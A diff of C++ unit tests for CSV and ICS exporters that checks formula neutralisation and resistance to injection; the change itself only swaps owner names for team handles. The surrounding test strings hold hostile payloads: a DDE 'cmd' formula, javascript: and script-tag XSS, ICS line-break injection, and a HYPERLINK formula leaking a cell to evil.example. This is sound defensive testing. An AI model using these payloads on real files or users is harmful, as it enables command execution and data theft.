@@ -444,8 +444,8 @@ TEST_CASE("exporters: csv quoting and formula neutralisation", "[export]") {
     CHECK(rows[2][0] == "'+cmd|' /C calc'!A0");
     CHECK(rows[3][0] == "'-2+3 and @SUM(A1:A2)");
     CHECK(rows[4][0].rfind("'@Review runbook", 0) == 0);
-    CHECK(rows[2][1] == "'@Marco");
-    CHECK(rows[1][1] == "Aiko");
+    CHECK(rows[2][1] == "'@db-oncall");
+    CHECK(rows[1][1] == "DBA Team");
     CHECK(rows[1][2] == "2026-03-15");
     CHECK(rows[1][3] == "P0");
     CHECK(rows[1][4] == "Open");
@@ -526,7 +526,7 @@ TEST_CASE("exporters: ics is well formed, folded and injection-proof", "[export]
     CHECK(has("URL:https://tracker.example.com/browse/OPS-1?x=1&y=2"));
     CHECK_FALSE(has("URL:javascript:alert(document.cookie)"));
     CHECK(has("DESCRIPTION:Line one\\nEND:VTODO\\nBEGIN:VEVENT\\nSUMMARY:injected\\n\\nPostmortem: <script>alert(1)"
-              "</script> Checkout outage: *payments* & [cart] | café ☕ (INC-4242)\\nOwner: @Marco"));
+              "</script> Checkout outage: *payments* & [cart] | café ☕ (INC-4242)\\nOwner: @db-oncall"));
     CHECK(ics.find("javascript:") == std::string::npos);  // a non-http ticket URL is not passed on at all
     CHECK(has("SUMMARY:=HYPERLINK(\"http://evil.example/?leak=\"&A1\\,\"Click\")"));
 
